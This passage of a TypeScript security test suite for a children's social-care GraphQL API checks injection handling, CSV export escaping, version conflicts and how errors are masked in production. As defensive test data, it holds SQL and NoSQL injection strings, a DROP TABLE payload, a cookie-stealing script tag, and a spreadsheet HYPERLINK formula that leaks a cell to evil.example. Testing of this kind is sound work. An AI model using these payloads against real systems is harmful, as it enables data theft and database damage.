      // Nothing matches an operator: it is not a condition.
      expect(r.body.data.children.totalCount).toBe(0);
    }
    // Control: the child is there to be found.
    expect((await gql(SEARCH, { s: { name: 'Robert Tables' } }, suite.c.frontDoor)).body.data.children.totalCount).toBe(1);
    for (const laChildId of ["' OR 1=1 --", '{"$gt":""}']) {
      // Not the shape of an LA child id: refused before any search.
      const r = await gql(SEARCH, { s: { laChildId } }, suite.c.frontDoor);
      expectSafe(r, 200, 'BAD_USER_INPUT');
      expectNoData(r);
    }
    // Searches are audited as searches; nothing else is written.
    await expectOnlyAudit(before, { 'child.searched:ALLOWED': nasty.length + 1 });

    // Ids: not an id (BAD_USER_INPUT), or not even a string (refused by coercion).
    before = await snapshot();
    for (const id of ["' OR 1=1 --", `${mine.id}' OR '1'='1`, '{"$gt":""}']) {
      const r = await gql(CHILD, { id }, suite.c.socialWorker);
      expectSafe(r, 200, 'BAD_USER_INPUT');
      expectNoData(r);
    }
    const object = await gql(CHILD, { id: { $gt: '' } }, suite.c.socialWorker);
    expectSafe(object, 400, 'BAD_USER_INPUT');
    await expectOnlyDenials(before, {});

    // Text: stored exactly as sent, and every table is still there.
    const note = `' OR 1=1 -- {"$gt":""} Robert'); DROP TABLE visit;-- $1 \\x00`;
    const r = await gql(VISIT, { input: visitInput(mine.id, note) }, suite.c.socialWorker);
    expect(r.body.errors).toBeUndefined();
    expect(r.body.data.recordVisit.note).toBe(note);
    const rows = await suite.api.db.query(`SELECT note FROM visit`);
    expect(rows).toEqual([{ note }]);
    expect(await suite.given.count('child')).toBe(1);
  });

  it('<script> and =HYPERLINK in text that reaches the Annex A CSV', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
    const script = '<script>alert(document.cookie)</script>';
    const PROVIDER = `mutation($input: CreateProviderInput!) { createProvider(input: $input) { id name } }`;
    const names = [formula, script, '+SUM(1+1)', '@cmd'];
    const providers: { id: string; name: string }[] = [];
    for (const name of names) {
      const r = await gql(PROVIDER, { input: { name } }, suite.c.admin);
      expect(r.body.errors).toBeUndefined();
      // Stored and returned as sent.
      expect(r.body.data.createProvider.name).toBe(name);
      providers.push(r.body.data.createProvider);
    }
    // Each provider completes an early help assessment (set-up), so its name is a cell of Annex A list 2.
    for (const p of providers) {
      const contract = await suite.eh.contract(p.id);
      const child = await suite.given.child();
      const e = await suite.eh.episode({ childIds: [child.id], status: 'IN_WORK', providerId: p.id, contractId: contract.id, requestedOn: '2026-11-02' });
      await suite.api.db.query(
        `INSERT INTO early_help_assessment (episode_id, reason, needs, strengths, lived_experience, child_voice, analysis, started_on, completed_on,
                                            completed_by_provider_id)
         VALUES ($1, 'Reason', '[]', 'S', 'L', 'V', 'A', '2026-11-04', '2026-11-20', $2)`,
        [e.id, p.id],
      );
    }
    const r = await gql(`query($input: AnnexAInput!) { annexA(input: $input) { columns rows csv } }`,
      { input: { list: 'LIST_2_EARLY_HELP', from: '2026-06-01', to: '2026-11-25' } }, suite.c.analyst);
    expect(r.body.errors).toBeUndefined();
    // JSON, never HTML: a browser given this response does not run the script.
    expect(r.headers.get('content-type')).toMatch(/^application\/(graphql-response\+)?json/);
    const { columns, rows, csv } = r.body.data.annexA;
    const organisation = columns.indexOf('Organisation completing assessment');
    // The rows keep the text as recorded.
    expect(rows.map((row: string[]) => row[organisation]).sort()).toEqual([...names].sort());
    // In the CSV every formula-like cell starts with a quote (shown as text); the script is a plain text cell.
    const lines = parseCsv(csv).slice(1);
    expect(lines.map((cells) => cells[organisation]).sort()).toEqual([`'${formula}`, "'+SUM(1+1)", "'@cmd", script].sort());
    expect(lines.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")"`);
    // Stored text unchanged.
    const stored = await suite.api.db.query(`SELECT name FROM provider WHERE id = ANY($1) ORDER BY name`, [providers.map((p) => p.id)]);
    expect(stored.map((s: { name: string }) => s.name)).toEqual([...names].sort());
  });
});

/** RFC 4180 CSV (quoted fields, doubled quotes, CRLF) into rows of cells. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i];
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && csv[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  return rows;
}

// ------------------------------------------------------------------------------------------------------------------

describe('concurrency', () => {
  it('a stale version on update', async () => {
    const mine = await suite.given.child({ teamId: suite.c.teamA.id, workerId: suite.c.socialWorker.id, firstName: 'Original' });
    const UPDATE = `mutation($input: UpdateChildInput!) { updateChild(input: $input) { id firstName version } }`;
    // Two practitioners opened version 1; the first saves.
    const first = await gql(UPDATE, { input: { id: mine.id, expectedVersion: mine.version, firstName: 'First' } }, suite.c.socialWorker);
    expect(first.body.errors).toBeUndefined();
    expect(first.body.data.updateChild).toEqual({ id: mine.id, firstName: 'First', version: mine.version + 1 });
    // The second saves over the same version: refused, nothing written, the first edit intact.
    const before = await snapshot();
    const second = await gql(UPDATE, { input: { id: mine.id, expectedVersion: mine.version, firstName: 'Second' } }, suite.c.teamManager);
    expectSafe(second, 200, 'STALE_VERSION');
    expectNoData(second);
    await expectOnlyDenials(before, {});
    const [row] = await suite.api.db.query(`SELECT first_name, version FROM child WHERE id = $1`, [mine.id]);
    expect(row).toEqual({ first_name: 'First', version: mine.version + 1 });
  });
});

// ------------------------------------------------------------------------------------------------------------------

describe('production', () => {
  let idp: LocalIdp;
  let prod: CapturedServer;
  let dev: CapturedServer;
  beforeAll(async () => {
    idp = await startLocalIdp();
    // Statements time out after 500 ms, so a locked table makes a real database failure on demand.
    prod = await startCapturedServer({
      NODE_ENV: 'production', OIDC_ISSUER: idp.issuer, OIDC_JWKS_URL: idp.jwksUrl, DB_STATEMENT_TIMEOUT_MS: '500',
    });
    dev = await startCapturedServer({ NODE_ENV: 'development' });
  });
  afterAll(async () => {
    await prod?.stop();
    await dev?.stop();
    await idp?.stop();
  });

  const prodGql = async (query: string, variables?: Record<string, unknown>, as?: Who) =>
    send(`${prod.url}/graphql`, { body: { query, variables }, token: as ? await idp.sign(as) : undefined });

  it('refuses development tokens (only the issuer signs)', async () => {
    const before = await snapshot();
    const r = await send(`${prod.url}/graphql`, { body: { query: '{ me { id } }' }, token: await suite.api.token(suite.c.socialWorker) });
    expectSafe(r, 401, 'UNAUTHENTICATED');
    await expectOnlyDenials(before, {});
    // Control: the issuer's token is served, the account found by its e-mail.
    expect((await prodGql('{ me { id } }', undefined, suite.c.socialWorker)).body.data.me.id).toBe(suite.c.socialWorker.id);
  });

  it('misspelt field in production', async () => {
    for (const query of ['{ me { displayNam } }', '{ chld(id: "x") { id } }', '{ me { team { nme } } }']) {
      const before = await snapshot();
      const r = await prodGql(query, undefined, suite.c.socialWorker);
      expectSafe(r, 400, 'GRAPHQL_VALIDATION_FAILED');
      expect(r.body.data).toBeUndefined();
      expect(r.text).not.toMatch(/Did you mean/i);
      await expectOnlyDenials(before, {});
      // Control: outside production the same mistake gets a suggestion (so this test can fail).
      const devAnswer = await send(`${dev.url}/graphql`, { body: { query }, token: await suite.api.token(suite.c.socialWorker) });
      expect(devAnswer.text).toMatch(/Did you mean/);
    }
  });

  it('introspection in production', async () => {
    for (const query of ['{ __schema { types { name } } }', '{ __type(name: "Child") { fields { name } } }', 'query { __schema { queryType { name } } }']) {
      for (const as of [undefined, suite.c.serviceManager]) {
        const before = await snapshot();
        const r = await prodGql(query, undefined, as);
        expectSafe(r, 400, 'GRAPHQL_VALIDATION_FAILED');
        expect(r.body.data).toBeUndefined();
        expect(r.text).not.toContain('Child');
        await expectOnlyDenials(before, {});
      }
    }
    // Control: outside production introspection answers.
    const devAnswer = await send(`${dev.url}/graphql`, { body: { query: '{ __schema { queryType { name } } }' } });
    expect(devAnswer.body.data.__schema.queryType.name).toBe('Query');
  });

  it('an unexpected error (a database failure) reaches the client as INTERNAL_SERVER_ERROR with a request id, the detail only in the log', async () => {
    const mine = await suite.given.child({ teamId: suite.c.teamA.id, workerId: suite.c.socialWorker.id, firstName: 'Amara' });
    // Another session holds the visit table locked: the visits query waits, then hits the statement timeout.
    const locker = new Client({ connectionString: testDatabaseUrl() });
    await locker.connect();
    let r: HttpAnswer;
    try {
      await locker.query('BEGIN');
      await locker.query('LOCK TABLE visit IN ACCESS EXCLUSIVE MODE');
      r = await prodGql(`query($id: ID!) { child(id: $id) { id visits { id note } } }`, { id: mine.id }, suite.c.socialWorker);
    } finally {
      await locker.query('ROLLBACK').catch(() => undefined);
      await locker.end();
    }
    const requestId = r.headers.get('x-request-id');
    expect(requestId).toMatch(/^[0-9a-f-]{36}$/);
    expect(r.text).not.toMatch(LEAK);
    expect(r.text).not.toMatch(/timeout|cancel|statement|lock/i);
    expect(r.body.errors).toHaveLength(1);
    expect(r.body.errors[0]).toEqual({
      message: 'Internal server error',
      path: ['child', 'visits'],
      extensions: { code: 'INTERNAL_SERVER_ERROR', requestId },
    });
    // The log has the detail under that request id (and nothing of the record or the token).
    const lines = prod.logs.filter((l) => l.requestId === requestId);
    const failure = lines.find((l) => l.msg === 'unexpected error') as any;
    expect(failure).toBeDefined();
    expect(failure.level).toBe(50);
    expect(failure.err.message).toMatch(/statement timeout/);
    expect(failure.err.stack).toBeTruthy();
    expect(lines.find((l) => l.msg === 'request')).toMatchObject({ requestId, status: r.status });
    expect(prod.logText()).not.toContain('Amara');
  });

  it('an unexpected error while the account is looked up (before any resolver) is masked, with a request id, and logged', async () => {
    const locker = new Client({ connectionString: testDatabaseUrl() });
    await locker.connect();
    let r: HttpAnswer;
    let xml: HttpAnswer;
    try {
      await locker.query('BEGIN');
      await locker.query('LOCK TABLE account IN ACCESS EXCLUSIVE MODE');
      r = await prodGql('{ me { id } }', undefined, suite.c.socialWorker);
      // The streamed census export builds the same context: not a 401 "bad token", and not silent.
      xml = await send(`${prod.url}/exports/cin-census/2026.xml`, { method: 'GET', token: await idp.sign(suite.c.serviceManager) });
    } finally {
      await locker.query('ROLLBACK').catch(() => undefined);
      await locker.end();
    }
    for (const answer of [r, xml]) {
      const requestId = answer.headers.get('x-request-id');
      expect(answer.status).toBe(500);
      expect(answer.text).not.toMatch(LEAK);
      expect(answer.text).not.toMatch(/timeout|cancel|statement|lock|context/i);
      expect(answer.body.errors).toEqual([{ message: 'Internal server error', extensions: { code: 'INTERNAL_SERVER_ERROR', requestId } }]);
      const failure = prod.logs.find((l) => l.requestId === requestId && l.level === 50) as any;
      expect(failure?.err?.message).toMatch(/statement timeout/);
    }
  });

  it('expected errors keep their stable extensions.code in production', async () => {
    const mine = await suite.given.child({ teamId: suite.c.teamA.id, workerId: suite.c.socialWorker.id });
    const UPDATE = `mutation($input: UpdateChildInput!) { updateChild(input: $input) { id } }`;
    const cases: [string, () => Promise<HttpAnswer>, string, Record<string, unknown>?][] = [
      ['anonymous', () => prodGql('{ myCaseload { totalCount } }'), 'UNAUTHENTICATED'],
      ['no permission', () => prodGql(`query($id: ID!) { childAccessLog(childId: $id) { totalCount } }`, { id: mine.id }, suite.c.socialWorker),
        'FORBIDDEN'],
      ['out of scope', () => prodGql(CHILD, { id: randomUUID() }, suite.c.socialWorker), 'NOT_FOUND'],
      ['invalid input', () => prodGql(VISIT, { input: visitInput(mine.id, 'short') }, suite.c.socialWorker), 'BAD_USER_INPUT',
        { fields: [{ field: 'note', message: expect.any(String) }] }],
      ['stale version', () => prodGql(UPDATE, { input: { id: mine.id, expectedVersion: 99, firstName: 'X' } }, suite.c.socialWorker),
        'STALE_VERSION'],
      ['bad id', () => prodGql(CHILD, { id: 'nope' }, suite.c.socialWorker), 'BAD_USER_INPUT'],
    ];
    for (const [label, request, code, extra] of cases) {
      const r = await request();
      expect({ label, code: codes(r)[0] }).toEqual({ label, code });
      expect(r.body.errors[0].message).not.toBe('Internal server error');
      if (extra) expect(r.body.errors[0].extensions).toMatchObject(extra);
      expect(r.text).not.toMatch(LEAK);
    }
  });
});

// ------------------------------------------------------------------------------------------------------------------

describe('error codes', () => {
  it('every code a client was sent in this suite is one of the stable, documented codes', () => {
    // Haven's ErrorCode enum, and the codes of refusals before GraphQL runs (Apollo's and the HTTP layer's).
    const stable: string[] = [...Object.values(ErrorCode), 'GRAPHQL_PARSE_FAILED', 'GRAPHQL_VALIDATION_FAILED', 'BAD_REQUEST', 'RATE_LIMITED'];
    expect(codesSeen.size).toBeGreaterThan(5);
    expect([...codesSeen].filter((c) => !stable.includes(c))).toEqual([]);
  });
});
